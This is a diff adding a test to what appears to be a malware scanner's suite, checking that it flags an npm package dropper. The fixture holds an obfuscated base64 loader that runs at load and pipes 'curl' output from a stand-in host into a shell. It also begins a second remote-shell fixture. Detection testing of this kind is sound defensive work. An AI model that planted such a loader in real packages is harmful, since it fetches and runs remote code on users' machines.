@@ -804,6 +804,14 @@ export function Widget() { return null; }
 });
 
 describe('remote command channels', () => {
+  it('a command kept in base64 and decoded into a shell at load is a dropper, reported with what it decodes to (@velora-dex/sdk 9.4.1)', () => {
+    const encoded = Buffer.from('nohup sh -c "$(curl -fsSL http://198.51.100.23/i.sh)" >/dev/null 2>&1 &').toString('base64');
+    const r = scan({ 'dist/index.js': `'use strict'\nconst { exec: __x } = require('child_process');\n__x("printf '%s' '${encoded}' | (base64 -d 2>/dev/null || base64 -D) | sh", function () {});\nexports.rate = () => 1;\n` }, { main: 'dist/index.js' });
+    const dropper = r.findings.find((f) => f.detector === 'remote-code');
+    expect(dropper?.data).toMatchObject({ what: 'pipes decoded base64 into a shell', command: expect.stringContaining('curl -fsSL http://198.51.100.23/i.sh') });
+    expect(r.level).toMatch(/high|critical/);
+  });
+
   it('text fetched through a local request helper and handed to a shell is a remote shell; a fetched program run from its file is an installer', () => {
     const c2 = `const https = require('https');
 const { exec } = require('child_process');
